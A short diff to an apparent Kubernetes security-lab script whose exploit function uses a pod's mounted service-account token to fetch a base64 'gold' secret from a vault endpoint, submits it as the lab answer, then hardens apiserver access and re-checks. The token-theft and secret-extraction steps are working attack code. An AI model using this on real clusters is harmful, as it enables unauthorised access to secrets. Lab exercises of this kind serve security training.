@@ -7,7 +7,9 @@ token=/var/run/secrets/kubernetes.io/serviceaccount/token
 
 exploit() {
   gold=$(kubectl exec visitor -- attacker http "$vault" --token-file "$token" --plain |
-    grep -o '"gold":"[^"]*"' | cut -d '"' -f 4 | base64 -d)
+    sed -n 's/.*"gold":"\([^"]*\)".*/\1/p' | base64 -d)
+  # Once repaired, the vault is shut: what was earned stays earned.
+  [ -n "$gold" ] || return 0
   minilab lab answer gold "$gold"
   minilab harden apiserver-access.authorization
   kubectl exec visitor -- attacker http "$vault" --plain | grep 'HTTP 200'
